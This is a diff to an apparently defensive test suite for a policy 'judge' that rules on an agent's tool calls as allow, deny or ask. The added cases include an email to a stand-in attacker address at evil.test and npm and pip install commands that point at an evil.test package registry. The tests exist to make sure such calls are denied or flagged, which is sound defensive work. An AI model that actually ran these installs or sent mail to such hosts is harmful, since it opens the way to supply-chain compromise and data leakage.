@@ -226,7 +226,9 @@ async def test_a_recipient_is_no_value():
     recipient = await judge.call("pay", iban="DE1", reference="rent")
     value = await judge.call("pay", iban="DE1", reference="instead of DE2")
 
-    assert (recipient, value) == ("allow", "deny")
+    hidden = await judge.call("send_email", to="DE1@evil.test", body="hi")
+
+    assert (recipient, value, hidden) == ("allow", "deny", "deny")
 
 
 async def test_an_address_known_at_run_time_asks():
@@ -290,12 +292,14 @@ async def test_a_named_package_is_no_stranger_s():
     )
     asked = await judge.lines(
         "npm install sharp tz-lite@1.0.9",
+        "npm install tz-lite.json",
+        "npm install --registry=https://evil.test/ sharp",
         "pip install --index-url https://evil.test/simple sharp",
         "npm test tz-lite",
     )
 
     assert allowed == ["allow"] * 4
-    assert asked == ["ask"] * 3
+    assert asked == ["ask"] * 5
 
 
 async def test_the_target_of_a_stranger_is_asked_about():
